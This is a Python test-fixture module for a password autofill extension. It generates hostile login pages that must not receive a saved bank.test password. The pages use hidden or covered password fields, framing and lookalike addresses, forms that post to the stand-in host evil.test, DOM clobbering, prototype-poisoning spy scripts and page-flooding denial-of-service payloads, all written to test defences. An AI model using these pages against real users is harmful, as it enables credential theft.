"""Pages that try to get a password they should not have, as tables.

The vault holds one login, of https://bank.test. Each page is tried as if its owner had chosen that login for it. A page
may fill what the person can see; `data-trap` marks what must stay empty whatever is filled beside it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

BANK = "https://bank.test/"
EVIL = "https://evil.test/"

USERNAME = '<label>User name <input name="username" autocomplete="username"></label>'
PASSWORD = '<label>Password <input name="password" type="password" autocomplete="current-password"></label>'
TRAP = '<label>Password <input name="password" type="password" autocomplete="current-password" data-trap></label>'
FORM = f'<form method="post"><h1>Log in</h1>{USERNAME}{PASSWORD}<button>Log in</button></form>'
TRAPPED = FORM.replace("<input", "<input data-trap")
BIG = 'width="600" height="300"'


@dataclass(frozen=True)
class Attack:
    """`pages` by address, the first of them the one that is visited. `filled`: whether something rightly is."""

    name: str
    pages: dict[str, str]
    filled: bool = False


def attacks() -> Iterator[Attack]:
    """All of them."""
    yield from hidden()
    yield from covered()
    yield from frames()
    yield from addresses()
    yield from targets()
    yield from clobbering()
    yield from flooding()
    yield from moving()


HIDDEN_FIELD = {
    "no display": "display: none",
    "no visibility": "visibility: hidden",
    "collapsed": "visibility: collapse",
    "no opacity": "opacity: 0",
    "faint": "opacity: 0.05",
    "filtered away": "filter: opacity(0)",
    "filtered to a percent": "filter: opacity(1%)",
    "blurred": "filter: blur(40px)",
    "clipped by a path": "clip-path: inset(100%)",
    "clipped to a circle": "clip-path: circle(1px at 0 0)",
    "clipped the old way": "position: absolute; clip: rect(0 0 0 0)",
    "masked": "mask-image: linear-gradient(transparent, transparent)",
    "off to the left": "position: absolute; left: -9999px",
    "off the top": "position: absolute; top: -9999px",
    "fixed off the screen": "position: fixed; top: 150vh",
    "moved away": "transform: translateX(-5000px)",
    "moved by translate": "translate: -5000px 0",
    "scaled to nothing": "transform: scale(0)",
    "scaled by scale": "scale: 0.01",
    "turned on edge": "transform: rotateY(90deg)",
    "one pixel": "width: 1px; height: 1px; padding: 0; border: 0",
    "a line": "height: 1px; padding: 0; border: 0",
    "a sliver": "width: 3px; padding: 0; border: 0",
    "zoomed out": "zoom: 0.02",
    "under the page": "position: relative; z-index: -1; top: 0",
    "content skipped": "content-visibility: hidden; appearance: none; height: 0; padding: 0; border: 0",
    "painted clear": "appearance: none; border: 0; outline: 0; background: none; color: transparent; caret-color: transparent",
    "ink of no colour": "-webkit-text-fill-color: transparent; background: none; border: 0; outline: 0",
}

HIDDEN_AROUND = {
    "no display": "display: none",
    "no opacity": "opacity: 0",
    "opacity adds up": "opacity: 0.4",
    "filtered away": "filter: opacity(0)",
    "clipped": "clip-path: inset(50%)",
    "no height": "height: 0; overflow: hidden",
    "no width": "width: 0; overflow: hidden",
    "one pixel": "width: 1px; height: 1px; overflow: hidden; position: absolute",
    "scrolled out": "height: 1px; overflow: hidden",
    "masked": "mask: linear-gradient(#0000, #0000)",
    "content skipped": "content-visibility: hidden; height: 1px",
    "moved away": "transform: translateY(-9999px)",
}


def hidden() -> Iterator[Attack]:
    """A password field that a person cannot see beside a user name they can: hidden-field harvest."""
    for name, style in HIDDEN_FIELD.items():
        field_ = TRAP.replace("data-trap", f'data-trap style="{style}"')
        page = f'<form><h1>Log in</h1>{USERNAME}<div style="background: white">{field_}</div><button>Go</button></form>'
        yield Attack(f"field {name}", {BANK: page}, filled=True)
    for name, style in HIDDEN_AROUND.items():
        page = f'<form><h1>Log in</h1>{USERNAME}<div style="{style}"><p style="{style}">{TRAP}</div><button>Go</button></form>'
        yield Attack(f"around it {name}", {BANK: page}, filled=True)
    for name, page in {
        "hidden attribute": f"<form>{USERNAME}<div hidden>{TRAP}</div><button>Go</button></form>",
        "closed details": f"<form>{USERNAME}<details><summary>More</summary>{TRAP}</details><button>Go</button></form>",
        "closed dialog": f"<form>{USERNAME}<dialog>{TRAP}</dialog><button>Go</button></form>",
        "closed popover": f"<form>{USERNAME}<div popover>{TRAP}</div><button>Go</button></form>",
        "template": f"<form>{USERNAME}<template>{TRAP}</template><button>Go</button></form>",
        "type hidden": f"<form>{USERNAME}<input type=hidden name=password data-trap><button>Go</button></form>",
        "important style": f"<style>.x {{ opacity: 0 !important }}</style><form>{USERNAME}<p class=x>{TRAP}</form>",
        "in a closed shadow": (
            f"<form>{USERNAME}<div id=h></div></form><script>h.attachShadow({{ mode: 'closed' }}).innerHTML = "
            f"`<p style='opacity: 0'>{TRAP}</p>`;</script>"
        ),
    }.items():
        yield Attack(f"field in {name}", {BANK: page}, filled=True)
    for name, style in {
        "root opacity": "html { opacity: 0 }",
        "body opacity": "body { opacity: 0.01 }",
        "root filter": "html { filter: opacity(0) }",
        "body clipped": "body { clip-path: inset(100%) }",
        "body moved": "body { transform: translateX(-9999px) }",
        "body masked": "body { mask-image: linear-gradient(#0000, #0000) }",
        "all opacity": "* { opacity: 0.6 }",
        "root animated": "html { animation: fade 1s forwards } @keyframes fade { 0%, 100% { opacity: 0 } }",
    }.items():
        yield Attack(f"whole page {name}", {BANK: f"<style>{style}</style><div><div><div>{TRAPPED}</div></div></div>"})


COVERS = {
    "a box": '<div style="position: fixed; inset: 0; background: white"></div>',
    "a box that lets the mouse through": (
        '<div style="position: fixed; inset: 0; background: white; pointer-events: none"></div>'
    ),
    "one that insists": (
        '<div style="position: fixed; inset: 0; background: white; pointer-events: none !important"></div>'
    ),
    "a style sheet that insists": (
        "<style>#c { position: fixed; inset: 0; background: white; pointer-events: none !important }</style><i id=c></i>"
    ),
    "a layer that insists": (
        "<style>@layer a { #c { pointer-events: none !important } } "
        "#c { position: fixed; inset: 0; background: white }</style><i id=c></i>"
    ),
    "an inert box": '<div inert style="position: fixed; inset: 0; background: white"></div>',
    "a picture": (
        '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=" '
        'style="position: fixed; left: 0; top: 0; width: 100%; height: 100%">'
    ),
    "a drawing": '<canvas style="position: fixed; left: 0; top: 0; width: 100%; height: 100%"></canvas>',
    "a frame": '<iframe srcdoc="hello" style="position: fixed; left: 0; top: 0; width: 100%; height: 100%"></iframe>',
    "a popover": (
        '<div popover id=p style="width: 100%; height: 100%; border: 0"></div><script>p.showPopover();</script>'
    ),
    "a modal dialog": (
        '<dialog id=d style="width: 100%; height: 100%; max-width: none; max-height: none"></dialog>'
        "<script>d.showModal();</script>"
    ),
    "a dialog's backdrop": (
        "<style>::backdrop { background: white }</style><dialog id=d>Hello</dialog><script>d.showModal();</script>"
    ),
    "what stands after its form": (
        "<style>form { position: relative } form::after { content: ''; position: absolute; inset: 0; "
        "background: white }</style>"
    ),
    "what stands after the page": (
        "<style>html::after { content: ''; position: fixed; inset: 0; background: white; z-index: 9 }</style>"
    ),
    "what lets the mouse through after the page": (
        "<style>body::before { content: ''; position: fixed; inset: 0; background: white; z-index: 9; "
        "pointer-events: none }</style>"
    ),
    "a box in a closed shadow": (
        "<div id=h></div><script>h.attachShadow({ mode: 'closed' }).innerHTML = "
        "`<div style='position: fixed; inset: 0; background: white'></div>`;</script>"
    ),
    "strips": "".join(
        f'<div style="position: fixed; left: 0; right: 0; top: {top}px; height: 9px; background: white"></div>'
        for top in range(0, 700, 10)
    ),
    "what follows the mouse": (
        "<div id=c style='position: fixed; width: 900px; height: 900px; left: -450px; top: -450px; background: white'>"
        "</div><script>onpointermove = ({ x, y }) => { c.style.translate = `${x}px ${y}px`; };</script>"
    ),
}


def covered() -> Iterator[Attack]:
    """A form under something else."""
    for name, cover in COVERS.items():
        yield Attack(f"covered by {name}", {BANK: TRAPPED + cover})


def frames() -> Iterator[Attack]:
    """Frames that are not the website that is chosen for, or of nobody."""
    bank_form, plain = f"{BANK}frame", TRAPPED.replace('"', "")
    outer = {
        "of another site": f'<iframe {BIG} src="{EVIL}"></iframe>',
        "sandboxed": f'<iframe {BIG} sandbox="allow-scripts allow-forms" src="{bank_form}"></iframe>',
        "sandboxed text": f'<iframe {BIG} sandbox="allow-scripts" srcdoc="{plain}"></iframe>',
        "of data": f'<iframe {BIG} src="data:text/html,{plain}"></iframe>',
        "as an object": f'<object {BIG} type="text/html" data="{EVIL}"></object>',
        "as an embed": f'<embed {BIG} type="text/html" src="{EVIL}">',
        "without credentials": f'<iframe {BIG} credentialless src="{EVIL}"></iframe>',
        "that left": f'<iframe {BIG} id=f src="{bank_form}"></iframe><script>f.onload = () => {{ f.src = "{EVIL}"; '
        "f.onload = null; };</script>",
        "faded": f'<iframe {BIG} style="opacity: 0" src="{bank_form}"></iframe>',
        "off the screen": f'<iframe {BIG} style="position: absolute; left: -9999px" src="{bank_form}"></iframe>',
        "of one pixel": f'<iframe width=1 height=1 src="{bank_form}"></iframe>',
        "made of a blob of another": f'<iframe {BIG} src="{EVIL}blob"></iframe>',
    }
    blob = f"<script>location = URL.createObjectURL(new Blob([`{TRAPPED}`], {{ type: 'text/html' }}));</script>"
    for name, page in outer.items():
        pages = {BANK: f"<h1>Bank</h1>{page}", EVIL: TRAPPED, bank_form: TRAPPED, f"{EVIL}blob": blob}
        yield Attack(f"frame {name}", pages)
    for name, page in {
        "framed by another site": f'<iframe {BIG} src="{BANK}"></iframe>',
        "framed twice": f'<iframe {BIG} src="{EVIL}inner"></iframe>',
        "framed by another and faded": f'<iframe {BIG} src="{BANK}" style="opacity: 0.01"></iframe>',
    }.items():
        inner = f'<iframe {BIG} src="{BANK}"></iframe>'
        yield Attack(name, {EVIL: page, BANK: TRAPPED, f"{EVIL}inner": inner})
    for name, source in {
        "an empty window": "open('').document.write(FORM)",
        "a blob": "location = URL.createObjectURL(new Blob([FORM], { type: 'text/html' }))",
    }.items():
        yield Attack(f"turned into {name}", {EVIL: f"<script>const FORM = `{TRAPPED}`; {source};</script>"})


def addresses() -> Iterator[Attack]:
    """Addresses that look like the bank's."""
    for name, address in {
        "in front of another's": "https://bank.test.evil.test/",
        "as a user name": "https://bank.test@evil.test/",
        "as user name and password": "https://bank.test:443@evil.test/",
        "in the path": "https://evil.test/https://bank.test/",
        "in the query": "https://evil.test/?https://bank.test/",
        "behind a hyphen": "https://evil-bank.test/",
        "longer": "https://xbank.test/",
        "one letter off": "https://bamk.test/",
        "with a Cyrillic letter": "https://b\u0430nk.test/",
        "with a full-width letter that stays": "https://bank\u3002evil.test/",
        "of the suffix": "https://test/",
        "on http": "http://bank.test/",
        "on http with a dot": "http://bank.test./",
        "on http with a port": "http://bank.test:8080/",
        "on http below it": "http://www.bank.test/",
        "a neighbour under a public suffix": "https://bank.github.io/",
        "an address in numbers": "https://127.0.0.1/",
        "an address of version 6": "https://[::1]/",
    }.items():
        yield Attack(f"address {name}", {address: TRAPPED})


def targets() -> Iterator[Attack]:
    """Forms of the bank that would hand over what is in them, before the person was asked."""
    for name, attributes in {
        "another site": 'action="https://evil.test/"',
        "another site without a scheme": 'action="//evil.test/"',
        "another site by backslashes": 'action="\\\\evil.test\\x"',
        "no encryption": 'action="http://bank.test/"',
        "a user name in front": 'action="https://bank.test@evil.test/"',
    }.items():
        yield Attack(f"sends to {name}", {BANK: TRAPPED.replace("<form", f"<form {attributes}")})
    for name, page in {
        "by its button": TRAPPED.replace("<button", '<button formaction="https://evil.test/"'),
        "by a picture": TRAPPED.replace("<button", '<input type=image alt=Go formaction="https://evil.test/"><button'),
        "by the base": '<base href="https://evil.test/">' + TRAPPED.replace("<form", '<form action="in"'),
        "by a button elsewhere": (
            TRAPPED.replace("<form", "<form id=f") + '<button form=f formaction="https://evil.test/">Go</button>'
        ),
        "hidden by a field": TRAPPED.replace(
            "<form", '<form action="https://evil.test/"><input name=action hidden><input name=getAttribute hidden'
        ).replace("hidden method", "hidden data-m"),
    }.items():
        yield Attack(f"sends to another site {name}", {BANK: page})


CLOBBERED = [
    "querySelectorAll",
    "querySelector",
    "getElementsByTagName",
    "documentElement",
    "body",
    "forms",
    "defaultView",
    "activeElement",
    "elementsFromPoint",
    "adoptedStyleSheets",
    "hasFocus",
    "createElement",
    "head",
    "title",
    "location",
]

POISONED = {
    "prototypes": "for (const c of [Element, Node, Document, HTMLInputElement, HTMLFormElement]) "
    "for (const [k, d] of Object.entries(Object.getOwnPropertyDescriptors(c.prototype))) "
    "if (d.configurable && typeof d.value === 'function') c.prototype[k] = function () { spy(arguments); return this; };",
    "setters of all objects": "for (const k of ['username', 'password', 'value', 'current-password', 'fields', 'kind']) "
    "Object.defineProperty(Object.prototype, k, { set(v) { spy([v]); }, configurable: true });",
    "array methods": "for (const k of ['map', 'filter', 'push', 'forEach', 'flatMap', 'includes']) "
    "{ const f = Array.prototype[k]; Array.prototype[k] = function (...a) { spy([this, a]); return f.apply(this, a); }; }",
    "a proxy for the value": "const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); "
    "for (const i of document.querySelectorAll('[data-trap]')) Object.defineProperty(i, 'value', "
    "{ get: d.get, set(v) { spy([v]); d.set.call(this, v); } });",
    "JSON and promises": "JSON.stringify = JSON.parse = (x) => spy([x]); "
    "const t = Promise.prototype.then; Promise.prototype.then = function (f, r) "
    "{ return t.call(this, (v) => { spy([v]); return f && f(v); }, r); };",
    "messages": "for (const k of ['postMessage', 'dispatchEvent', 'addEventListener']) "
    "{ const f = window[k]; window[k] = function (...a) { spy(a); return f.apply(this, a); }; } "
    "window.chrome = new Proxy({}, { get: (_, k) => spy([k]) }); window.browser = window.chrome;",
}


def clobbering() -> Iterator[Attack]:
    """What the extension would look things up by, replaced; the hidden trap must stay empty all the same."""
    harvest = f"<form>{USERNAME}<div style='opacity: 0'>{TRAP}</div><button>Go</button></form>"
    for name in CLOBBERED:
        yield Attack(
            f"document.{name} replaced", {BANK: f'<img name="{name}"><form name="{name}"></form>{harvest}'}, filled=True
        )
    for name in (
        "elements",
        "length",
        "querySelectorAll",
        "contains",
        "getRootNode",
        "nodeType",
        "parentNode",
        "style",
    ):
        page = harvest.replace("<form>", f'<form><input hidden name="{name}"><input hidden id="{name}">')
        yield Attack(f"form.{name} replaced", {BANK: page}, filled=True)
    for name, script in POISONED.items():
        yield Attack(f"{name} poisoned", {BANK: f"{harvest}<script>{script}</script>"}, filled=True)


def flooding() -> Iterator[Attack]:
    """Pages too big or too busy; the answer may be to fill nothing, never to hang."""
    many = "<script>document.body.insertAdjacentHTML('beforeend', {});</script>"
    yield Attack(
        "100,000 inputs",
        {BANK: f"<body><div style='opacity: 0'>{TRAPPED}</div>" + many.format("'<input>'.repeat(1e5)")},
    )
    yield Attack(
        "20,000 password fields",
        {BANK: "<body>" + many.format("'<input type=password style=\"opacity: 0\" data-trap>'.repeat(2e4)")},
    )
    yield Attack(
        "20,000 forms",
        {
            BANK: "<body>"
            + many.format(
                "'<form style=\"opacity: 0\"><input data-trap><input data-trap type=password></form>'.repeat(2e4)"
            )
        },
    )
    deep = "for (let n = 0, e = document.body; n < 2000; n += 1) e = e.appendChild(document.createElement('div'));"
    yield Attack("2,000 deep", {BANK: f"<body><div style='opacity: 0'>{TRAPPED}</div><script>{deep}</script>"})
    labels = "'<label>' + 'x'.repeat(1e5) + '</label>'"
    yield Attack(
        "10 MB of labels",
        {BANK: f"<body><div style='opacity: 0'>{TRAPPED}</div>" + many.format(f"({labels}).repeat(100)")},
    )
    churn = "setInterval(() => { document.getElementById('c').textContent = 'x'.repeat(2e5); }, 20);"
    yield Attack(
        "10 MB of changes a second", {BANK: f"<div style='opacity: 0'>{TRAPPED}</div><p id=c><script>{churn}</script>"}
    )
    shadows = (
        "for (let n = 0; n < 5000; n += 1) document.body.appendChild(document.createElement('div'))"
        ".attachShadow({ mode: 'open' }).innerHTML = '<input type=password data-trap style=\"opacity: 0\">';"
    )
    yield Attack("5,000 shadows", {BANK: f"<body><script>{shadows}</script>"})
    framed = "for (let n = 0; n < 300; n += 1) document.body.appendChild(document.createElement('iframe'));"
    yield Attack("300 frames", {BANK: f"<body><div style='opacity: 0'>{TRAPPED}</div><script>{framed}</script>"})


def moving() -> Iterator[Attack]:
    """Pages that change when they hear of the fill."""
    for name, script in {
        "the password field is hidden once the name is in": "p.style.opacity = 0",
        "the password field is covered once the name is in": (
            "document.body.insertAdjacentHTML('beforeend', `<div style='position: fixed; inset: 0; background: white'>`)"
        ),
        "the password field is moved once the name is in": "p.style.position = 'fixed'; p.style.left = '-999px'",
        "the password field is swapped once the name is in": "p.replaceWith(p.cloneNode())",
        "the page is written anew": f"document.open(); document.write(`{TRAPPED}`); document.close()",
    }.items():
        page = f"<form>{USERNAME}{TRAP.replace('<input', '<input id=p')}<button>Log in</button></form>"
        listen = f"<script>document.querySelector('[name=username]').oninput = () => {{ {script}; }};</script>"
        yield Attack(name, {BANK: page + listen}, filled=True)
